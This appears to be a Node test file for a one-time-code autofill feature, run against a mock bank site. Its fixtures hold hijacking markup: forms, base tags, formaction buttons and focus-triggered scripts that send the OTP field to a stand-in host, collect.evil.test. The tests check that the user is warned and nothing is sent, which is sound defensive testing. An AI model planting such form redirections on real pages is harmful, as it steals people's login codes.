// Markup without any script, as a page that is careful about scripts lets through: a form around the bank's field that is
// sent to somebody else. It is not sent, and the field is not even filled before the person was told where the code would go.
import assert from 'node:assert/strict';
import { after, before, beforeEach, test } from 'node:test';
import { BANK, startNorthbank } from '../lib/northbank.mjs';
import { PATIENCE, sleep, within } from '../lib/wait.mjs';
import { openEditor } from '../lib/person.mjs';

const EVIL = 'https://collect.evil.test/take';
const TEXT = '<h1>Two-factor authentication</h1><p>Enter the code of your authenticator app</p>';
const FIELD = '<input id="otp" name="otp" inputmode="numeric" autocomplete="one-time-code">';
/** In which a form would have been sent. */
const ENOUGH = 1500;

/** To whom each would send the code. */
const FOREIGN = new Map(Object.entries({
  '/action': [`${TEXT}<form method="post" action="${EVIL}">${FIELD}<button>Verify</button></form>`, 'collect.evil.test'],
  '/base': [`<base href="https://collect.evil.test/">${TEXT}<form method="post" action="take">${FIELD}<button>Verify</button></form>`, 'collect.evil.test'],
  '/button': [`${TEXT}<form method="post">${FIELD}<button>Verify</button><button formaction="${EVIL}">Go on</button></form>`, 'collect.evil.test'],
  '/button-outside': [`<button form="f" formaction="${EVIL}">Verify</button>${TEXT}<form id="f" method="post">${FIELD}</form>`, 'collect.evil.test'],
  '/picture': [`${TEXT}<form method="post">${FIELD}<input type="image" alt="Verify" formaction="${EVIL}"></form>`, 'collect.evil.test'],
  '/field-outside': [`<form id="f" method="post" action="${EVIL}"><button>Verify</button></form>${TEXT}${FIELD.replace('<input', '<input form="f"')}`, 'collect.evil.test'],
  '/hidden-names': [`${TEXT}<form method="post" action="${EVIL}">${FIELD}<input type="hidden" name="action"><input type="hidden" name="method"><input type="hidden" name="elements"><button>Verify</button></form>`, 'collect.evil.test'],
  '/dialog-and-button': [`${TEXT}<form method="dialog" action="${EVIL}">${FIELD}<button formmethod="post">Verify</button></form>`, 'collect.evil.test'],
  '/plain-http': [`${TEXT}<form method="post" action="http://northbank.test/take">${FIELD}<button>Verify</button></form>`, 'northbank.test'],
  '/other-port': [`${TEXT}<form method="post" action="https://northbank.test:8443/take">${FIELD}<button>Verify</button></form>`, 'northbank.test:8443'],
  '/mail': [`${TEXT}<form method="post" action="mailto:take@evil.test">${FIELD}<button>Verify</button></form>`, 'mailto:take@evil.test'],
  '/data': [`${TEXT}<form action="data:text/html,take">${FIELD}<button>Verify</button></form>`, 'data:'],
}));

const OWN = new Map(Object.entries({
  '/no-action': `${TEXT}<form method="post">${FIELD}<button>Verify</button></form>`,
  '/own': `${TEXT}<form method="post" action="/take">${FIELD}<button>Verify</button></form>`,
  '/named': `${TEXT}<form method="post" action="/take">${FIELD}<input type="hidden" name="requestSubmit"><input type="hidden" name="elements"><button>Verify</button></form>`,
  '/empty-and-base': `<base href="https://collect.evil.test/">${TEXT}<form method="post" action="">${FIELD}<button>Verify</button></form>`,
  '/dialog': `${TEXT}<form method="dialog" action="${EVIL}">${FIELD}<button>Verify</button></form>`,
  '/script': `${TEXT}<form action="javascript:void 0">${FIELD}<button>Verify</button></form>`,
}));
const SENT = ['/no-action', '/own', '/named', '/empty-and-base'];

/** Its form goes elsewhere as soon as the cursor comes, or when something is typed. */
const CHANGING = new Map(Object.entries({
  '/on-focus': `${OWN.get('/own')}<script>otp.onfocus = () => { otp.form.action = '${EVIL}'; };</script>`,
  '/on-input': `${OWN.get('/own')}<script>otp.oninput = () => { otp.form.action = '${EVIL}'; };</script>`,
  '/new-button': `${OWN.get('/own')}<script>otp.onfocus = () => otp.form.insertAdjacentHTML('beforeend', '<button formaction="${EVIL}">Go</button>');</script>`,
  '/moved': `${OWN.get('/own')}<form id="g" method="post" action="${EVIL}"></form><script>otp.onfocus = () => otp.setAttribute('form', 'g');</script>`,
}));

/** @type {import('../lib/northbank.mjs').Northbank} */
let bank;

before(async () => {
  bank = await startNorthbank(({ path }) => FOREIGN.get(path)?.[0] ?? OWN.get(path) ?? CHANGING.get(path));
  const popup = await bank.open(`${BANK}/login`);
  await openEditor(popup, '.here .more');
  await popup.click('#submit-after');
  await popup.click('#editor-form .primary');
  await popup.waitFor('#list li');
});

after(() => bank?.close());

beforeEach(() => {
  bank.sent.length = 0;
});

for (const [path, [, host]] of FOREIGN) {
  test(`${path}: the person is told where the code would go, and nothing is filled or sent`, async () => {
    const popup = await bank.open(BANK + path);
    await popup.click('.here .fill');
    await bank.says(popup, /^This form sends the code to /);
    assert.equal(await popup.text('#notice-text'), `This form sends the code to ${host}. Fill all the same?`);
    assert.equal(await bank.standing(), '');
    assert.deepEqual(bank.sent, []);
  });
}

test('who fills all the same sends it by hand', async () => {
  await bank.freshCode();
  const popup = await bank.open(`${BANK}/action`);
  await popup.click('.here .fill');
  await bank.says(popup, /collect\.evil\.test/);
  await popup.click('#notice-action');
  await bank.closes();
  await sleep(ENOUGH);
  assert.ok(bank.isRight(await bank.standing()));
  assert.deepEqual(bank.sent, []);
});

for (const path of CHANGING.keys()) {
  test(`a form that goes elsewhere only then is not sent: ${path}`, async () => {
    await bank.freshCode();
    const popup = await bank.open(BANK + path);
    await popup.click('.here .fill');
    await within(PATIENCE, 'the popup to close, or to say that the page changed', async () =>
      !bank.chromium.popupIsOpen() || /^The page changed meanwhile/.test((await popup.text('#notice-text').catch(() => '')) ?? ''));
    await sleep(ENOUGH);
    assert.deepEqual(bank.sent, []);
    assert.equal(bank.page.url(), BANK + path);
  });
}

for (const path of OWN.keys()) {
  test(`the bank's own forms are filled${SENT.includes(path) ? ' and sent' : ''}: ${path}`, async () => {
    await bank.freshCode();
    const popup = await bank.open(BANK + path);
    await popup.click('.here .fill');
    if (SENT.includes(path)) {
      await within(PATIENCE, 'the form to be sent', () => bank.sent.length > 0);
      const [sent] = bank.sent;
      assert.ok(sent !== undefined && bank.isRight(sent.code));
      assert.equal(sent.host, 'northbank.test');
    } else {
      await bank.closes();
      assert.ok(bank.isRight(await bank.standing()) || path === '/dialog');
    }
  });
}
